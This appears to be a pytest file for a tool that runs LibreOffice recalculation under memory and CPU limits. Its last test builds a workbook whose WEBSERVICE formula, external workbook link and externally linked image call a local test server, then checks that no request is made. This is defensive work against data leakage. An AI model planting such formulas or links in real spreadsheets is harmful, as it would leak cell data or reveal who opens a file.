"""LibreOffice runs under limits: what goes beyond them is one sentence."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from xl_flexextra.errors import Refused
from xl_flexextra.files import child, door
from xl_flexextra.hosts.calc import session
from xl_flexextra.hosts.calc.recalculation import recalculate

ROOT = Path(__file__).parents[2]


@pytest.fixture
def book(tmp_path: Path) -> Path:
    made = openpyxl.Workbook()
    made.active["A1"] = "=1+1"
    made.save(tmp_path / "b.xlsx")
    return tmp_path / "b.xlsx"


def test_libreoffice_ran_without_limits(book: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a few MB it cannot start; the sentence names the workbook, and nothing hangs."""
    monkeypatch.setattr(session, "_OFFICE", 0)
    monkeypatch.setattr(door, "MEMORY", 20 << 20)
    with pytest.raises(Refused, match=r"^LibreOffice could not work on b\.xlsx: "):
        session.run([{"path": str(book), "recalculate": True, "read": True}], timeout=60)


def test_an_answer_without_end_is_not_read(book: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(session, "_OFFICE", 1 << 30)
    monkeypatch.setattr(door, "MEMORY", 100)
    with pytest.raises(Refused, match="The answer of LibreOffice"):
        session.run([{"path": str(book), "recalculate": True, "read": True}], timeout=60)


def test_the_limits_of_another_program_are_held_by_the_system() -> None:
    ask = (
        "import resource as r; print(*r.getrlimit(r.RLIMIT_DATA), *r.getrlimit(r.RLIMIT_CPU), r.getrlimit(r.RLIMIT_CORE)[1])"
    )
    told = subprocess.run(
        child.bounded([sys.executable, "-c", ask], 300 << 20, 7), capture_output=True, text=True, check=True
    )
    assert told.stdout.split() == [str(300 << 20)] * 2 + ["7", "7", "0"]
    greedy = child.bounded([sys.executable, "-c", "b'x' * (400 << 20)"], 300 << 20, 7)
    assert subprocess.run(greedy, capture_output=True).returncode == 1


def test_a_picture_of_a_server_told_it_who_opened_the_workbook(tmp_path: Path) -> None:
    """A workbook may name a picture, data or a service of any host; LibreOffice asked for the picture when it loaded."""
    asked: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        host = f"http://127.0.0.1:{server.getsockname()[1]}"
        threading.Thread(target=lambda: asked.append(server.accept()), daemon=True).start()
        book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
        sheet = book.add_worksheet("S")
        sheet.write_formula("A1", "=1+1")
        sheet.write_formula("A2", f'=_xlfn.WEBSERVICE("{host}/x?"&A1)')
        sheet.write_formula("A3", f"='{host}/[y.xlsx]Sheet1'!A1")
        sheet.insert_image("C1", next((ROOT / "docs" / "pictures").glob("*.png")))
        book.close()
        with zipfile.ZipFile(tmp_path / "a.xlsx") as old, zipfile.ZipFile(tmp_path / "b.xlsx", "w") as new:
            for name in old.namelist():
                data = old.read(name).replace(b"r:embed=", b"r:link=")
                if name.endswith("drawing1.xml.rels"):
                    data = re.sub(rb'Target="[^"]*"', f'Target="{host}/i.png" TargetMode="External"'.encode(), data)
                new.writestr(name, data)
        found = recalculate(tmp_path / "b.xlsx")
    assert next(cell.recalculated for cell in found.cells if cell.address == "A1") == 2
    assert not asked
